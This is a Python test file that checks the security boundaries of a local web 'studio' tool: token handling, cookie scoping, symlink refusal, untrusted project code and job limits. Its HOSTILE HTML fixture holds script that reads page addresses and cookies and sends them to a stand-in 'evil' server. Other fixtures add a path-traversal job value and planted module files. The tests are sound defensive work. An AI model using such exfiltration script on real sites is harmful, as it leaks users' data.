"""Whom the studio must not serve: other users of the machine, foreign pages and folders."""

from __future__ import annotations

import http.client
import json
import os
import stat
import subprocess
import sys
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from dynid.errors import DynidError
from dynid.studio import serve
from dynid.studio.jobs import AT_ONCE, Jobs
from dynid.studio.serve import claim_folder
from studio_help import Studio, packed

pytest.importorskip("starlette", reason="no starlette (pip install '.[studio]')")
pytest.importorskip("uvicorn", reason="no uvicorn (pip install '.[studio]')")


@pytest.fixture(scope="module")
def studio(tmp_path_factory):
    with Studio(tmp_path_factory.mktemp("studio") / "new") as running:
        yield running


def asked(studio, path, **headers):
    there = urlsplit(studio.address)
    connection = http.client.HTTPConnection(there.hostname, there.port, timeout=60)
    names = {key.replace("_", "-"): value for key, value in headers.items()}
    connection.request("GET", path, headers=names)
    answer = connection.getresponse()
    content = answer.read().decode()
    connection.close()
    return answer, content


# ---- other users of the machine


def test_the_browser_is_not_called_with_the_token(tmp_path):
    """Everybody reads the arguments of a process, but only its owner the file that it opens."""
    saw = tmp_path / "saw.json"
    called = tmp_path / "browser.py"
    called.write_text(
        "import json, os, sys, urllib.parse\n"
        "path = urllib.parse.unquote(sys.argv[1].removeprefix('file://'))\n"
        "saw = [sys.argv, os.stat(path).st_mode, open(path).read()]\n"
        f"json.dump(saw, open({str(saw)!r}, 'w'))\n"
    )
    folder = tmp_path / "a folder"
    command = [sys.executable, "-m", "dynid", "studio", str(folder)]
    environment = {**os.environ, "BROWSER": f"{sys.executable} {called} %s"}
    process = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True)
    try:
        process.stdout.readline()
        address = process.stdout.readline().strip()
        token = address.rstrip("/").rpartition("/")[2]
        end = time.monotonic() + 30
        while not saw.exists() or not saw.read_text():
            assert time.monotonic() < end
            time.sleep(0.05)
        arguments, mode, content = json.loads(saw.read_text())
        assert len(token) > 20
        assert token not in " ".join(arguments)
        assert stat.S_IMODE(mode) == 0o600
        assert address in content
        assert stat.S_IMODE((folder / ".studio" / "open").stat().st_mode) == 0o600
    finally:
        process.send_signal(2)
        process.wait(10)
        process.stdout.close()
    assert not (folder / ".studio" / "open.html").exists()


def test_the_token_becomes_a_cookie_of_one_place(studio):
    answer, page = asked(studio, urlsplit(studio.address).path)
    cookie = answer.getheader("Set-Cookie")
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie
    place = page.partition('href="')[2].partition('"')[0]
    assert f"Path={place};" in cookie
    token = urlsplit(studio.address).path.strip("/")
    assert token not in page
    value = cookie.partition(";")[0]
    assert asked(studio, f"{place}api/state", Cookie=value)[0].status == 200
    assert asked(studio, f"{place}api/state")[0].status == 403
    assert asked(studio, f"{place}api/state", Cookie=value[:-1] + "x")[0].status == 403
    assert asked(studio, "/api/state", Cookie=value)[0].status == 403
    # with the cookie, but led there by another page of this browser
    for site in ("same-site", "cross-site"):
        assert (
            asked(studio, f"{place}api/state", Cookie=value, Sec_Fetch_Site=site)[0].status == 403
        )


def test_the_file_leads_a_browser_in(studio, browser, tmp_path, monkeypatch):
    called = []
    monkeypatch.setattr(serve.webbrowser, "open", lambda url: not called.append(url))
    assert serve._open_browser(tmp_path / "open.html", studio.address)
    page = browser.new_page()
    page.goto(called[0])
    page.wait_for_selector("nav.tabs a")
    token = urlsplit(studio.address).path.strip("/")
    assert token not in page.url
    page.go_back()
    assert token not in page.url
    page.close()


def test_a_folder_that_leads_elsewhere_is_refused(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("mine")
    folder = tmp_path / "foreign"
    (folder / ".studio").mkdir(parents=True)
    (folder / ".studio" / "open").symlink_to(victim)
    with pytest.raises(DynidError, match="cannot be written"):
        claim_folder(folder)
    assert victim.read_text() == "mine"
    other = tmp_path / "other"
    other.mkdir()
    (other / ".studio").symlink_to(tmp_path)
    with pytest.raises(DynidError, match="leads to another place"):
        claim_folder(other)
    third = tmp_path / "third"
    (third / ".studio").mkdir(parents=True)
    (third / ".studio" / "open").write_text("")
    (third / ".studio" / "open").chmod(0o666)
    claim_folder(third).close()
    assert stat.S_IMODE((third / ".studio" / "open").stat().st_mode) == 0o600


# ---- pages of others

HOSTILE = """<!doctype html><title>Report: good</title><main><h1>Report</h1><p id=ran>no</p>
<meta http-equiv=refresh content="0; url={evil}/meta">
<img src="{evil}/img?1"><link rel=stylesheet href="{evil}/css">
<form id=f action="{evil}/form" method=post><input name=a></form><a id=a href="{evil}/link">x</a>
<script>
ran.textContent = "yes " + location.href + " " + document.referrer;
const told = what => ran.textContent += " " + what;
try {{ told("cookie " + document.cookie) }} catch {{ told("no cookie") }}
try {{ told(parent.document.title) }} catch {{ told("no parent") }}
fetch("{evil}/fetch?" + location.href).catch(() => told("no fetch"));
fetch("api/state").catch(() => told("no api"));
new Image().src = "{evil}/image?" + encodeURIComponent(location.href);
navigator.sendBeacon("{evil}/beacon", location.href);
try {{ new EventSource("{evil}/events") }} catch {{}}
try {{ open("{evil}/open") }} catch {{}}
try {{ f.submit() }} catch {{}}
try {{ top.location = "{evil}/top?" + location.href }} catch {{ told("no top") }}
setTimeout(() => location = "{evil}/self?" + location.href, 300);
</script></main>"""


@pytest.fixture
def evil():
    """Another server of this machine, and what it was asked for."""
    seen = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append((self.path, self.headers.get("Referer"), self.headers.get("Cookie")))
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.block_on_close = False  # a browser keeps connections that it does not use
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.slow(reason="commands in processes of their own, each loading all anew")
def test_a_strangers_report_reaches_nobody(studio, window, evil):
    there, seen = evil
    run = studio.folder / "runs" / "foreign"
    run.mkdir(parents=True)
    (run / "result.json").write_text("{}")
    (run / "report.html").write_text(HOSTILE.format(evil=there))
    w = window(studio)
    token = urlsplit(studio.address).path.strip("/")
    assert token not in w.page.url
    assert w.page.evaluate("document.cookie") == ""
    # as a page of its own, as the link on the page Runs opens it
    other = w.context.new_page()
    other.goto(w.page.url.partition("#")[0] + "files/runs/foreign/report.html")
    other.wait_for_timeout(1500)
    frame = other.frames[1]
    assert frame.url.startswith(w.origin) or frame.url.startswith("chrome-error:")
    assert other.url.startswith(w.origin)
    assert seen == []
    # as part of the page Runs, without its script
    w.tab("Runs")
    w.page.wait_for_selector(".report p")
    w.page.wait_for_timeout(700)
    assert w.page.inner_text(".report p") == "no"
    assert w.page.url.startswith(w.origin)
    assert seen == []
    # the address with the token, typed: it does not stay in the address
    other.goto(studio.address + "files/runs/foreign/report.html")
    other.wait_for_timeout(700)
    assert token not in other.url
    assert seen == []


def test_a_strangers_script_knows_no_secret(studio, window, evil):
    """What it can find out is where its own file is."""
    there, seen = evil
    run = studio.folder / "runs" / "quiet"
    run.mkdir(parents=True)
    text = HOSTILE.format(evil=there).replace("setTimeout(", "(() => 0)(")
    text = text.replace("http-equiv=refresh", "")
    (run / "report.html").write_text(text)
    w = window(studio)
    other = w.context.new_page()
    other.goto(w.page.url.partition("#")[0] + "files/runs/quiet/report.html")
    other.frames[1].wait_for_selector("#ran")
    other.wait_for_timeout(500)
    said = other.frames[1].inner_text("#ran")
    assert said.startswith("yes http://127.0.0.1")
    for word in ("no cookie", "no parent", "no fetch", "no api", "no top"):
        assert word in said
    assert urlsplit(studio.address).path.strip("/") not in said
    assert seen == []


def test_no_file_of_the_folder_is_served_as_a_script(studio):
    (studio.folder / "evil.js").write_text("alert(1)")
    answer, _ = asked(studio, urlsplit(studio.address).path + "files/evil.js")
    assert answer.getheader("Content-Type") == "application/octet-stream"
    assert answer.getheader("X-Content-Type-Options") == "nosniff"
    assert answer.getheader("Referrer-Policy") == "no-referrer"


# ---- folders of others


@pytest.mark.slow(reason="commands in processes of their own, each loading all anew")
def test_a_foreign_project_runs_nothing(tmp_path):
    folder = tmp_path / "foreign"
    folder.mkdir()
    mark = tmp_path / "ran"
    code = f"open({str(mark)!r}, 'a').write(__name__)\nimport dynid as di\n"
    (folder / "helper.py").write_text(code + "def build(): return di.robots.five_bar()\n")
    for name in ("numpy", "typer", "json", "dynid"):  # that Python would find first
        (folder / f"{name}.py").write_text(code)
    (folder / "dynid.yaml").write_text("robot: helper.py:build\n")
    with Studio(folder) as studio:
        status, content = studio.ask("GET", "api/robot")
        assert status == 422
        assert "dynid studio --trust helper.py" in json.loads(content)["error"]
        job = studio.job(
            studio.post("jobs", {"verb": "check", "options": {"quick": True}})[1]["id"]
        )
        assert job["state"] == "failed"
        assert "dynid studio --trust helper.py" in job["said"]
        assert not mark.exists()
    for name in ("numpy", "typer", "json", "dynid"):
        (folder / f"{name}.py").unlink()
    with Studio(folder, "--trust", str(folder / "helper.py")) as studio:
        assert studio.get("robot")["actuated"]
        job = studio.job(
            studio.post("jobs", {"verb": "check", "options": {"quick": True}})[1]["id"]
        )
        assert job["state"] == "done", job
        assert "--trust" in job["command"]
    assert mark.exists()


def test_jobs_that_a_folder_brings_are_data(tmp_path):
    jobs = tmp_path / ".studio" / "jobs"
    jobs.mkdir(parents=True)
    content = {"request": {"content": {"verb": "check"}, "command": "dynid check"}, "pid": 0}
    for name in ("1", "x", "2"):
        (jobs / f"{name}.json").write_text(json.dumps(content))
    (jobs / "3.json").write_text(json.dumps({**content, "number": "../../../victim"}))
    (jobs / "4.json").write_text("[1]")
    assert [job["id"] for job in Jobs(tmp_path).to_dict()] == [2, 1]


# ---- much at once


def test_jobs_that_start_together_have_folders_of_their_own(tmp_path):
    (tmp_path / "dynid.yaml").write_text("robot: pendulum\n")
    jobs = Jobs(tmp_path)
    made = []

    def start():
        made.append(jobs.start({"verb": "identify"}))

    threads = [threading.Thread(target=start) for _ in range(AT_ONCE + 2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    try:
        assert {job.output for job in made} == {f"runs/run{k + 1}" for k in range(AT_ONCE + 2)}
        states = [job.to_dict()["state"] for job in made]
        assert states.count("waiting") == 2
        late = [job for job in made if job.waiting]
        jobs.cancel(late[0].number)
        assert late[0].to_dict()["state"] == "cancelled"
        stopped = next(job for job in Jobs(tmp_path).all.values() if job.number == late[1].number)
        assert stopped.to_dict()["state"] == "stopped"  # another studio runs nothing unasked
        jobs.cancel(next(job.number for job in made if job.runs))
        end = time.monotonic() + 20
        while late[1].waiting:  # there is room now
            assert time.monotonic() < end
            time.sleep(0.05)
        assert late[1].pid
    finally:
        for job in made:
            jobs.cancel(job.number)


def test_the_same_question_of_the_same_files_is_asked_once(tmp_path):
    (tmp_path / "dynid.yaml").write_text("robot: pendulum\n")
    jobs = Jobs(tmp_path)
    asked = {"verb": "check", "options": {"quick": True}, "again": False}
    first = jobs.start(asked)
    assert jobs.start(asked) is first
    (tmp_path / "dynid.yaml").write_text("robot: delta4\n")
    other = jobs.start(asked)
    assert other is not first
    for job in (first, other):
        jobs.cancel(job.number)
    assert jobs.start(asked) is not other  # it was cancelled
    jobs.cancel(other.number + 1)


def test_a_body_without_a_length_is_not_read_without_end(studio):
    there = urlsplit(studio.address)
    for pieces, words in (((b"[" * 1000 for _ in range(5000)), "at most"), ([b"[" * 900_000], "")):
        connection = http.client.HTTPConnection(there.hostname, there.port, timeout=60)
        sent = 0

        def counted(pieces=pieces):
            nonlocal sent
            for piece in pieces:
                sent += len(piece)
                yield piece

        try:
            connection.request(
                "POST", there.path + "api/pose", counted(), {"Transfer-Encoding": "chunked"},
                encode_chunked=True,
            )  # fmt: skip
            answer = connection.getresponse()
            assert answer.status == 422
            assert words in json.loads(answer.read())["error"]
        except (BrokenPipeError, ConnectionResetError):
            assert sent > 1_000_000  # refused while it was being sent
        connection.close()


@pytest.mark.slow(reason="commands in processes of their own, each loading all anew")
def test_a_zip_is_unpacked_while_others_are_answered(studio):
    """300 MB of zeros, which take a second or so."""
    done = []
    content = packed({"log.csv": bytes(300_000_000)}, zipfile.ZIP_DEFLATED)
    worker = threading.Thread(target=lambda: done.append(studio.upload("large.zip", content)))
    worker.start()
    time.sleep(0.2)
    answers = 0
    while worker.is_alive():
        assert studio.ask("GET", "page.css")[0] == 200
        answers += worker.is_alive()
    worker.join()
    assert done[0][0] == 200, done
    assert answers >= 5
    Path(studio.folder / "large" / "log.csv").unlink()
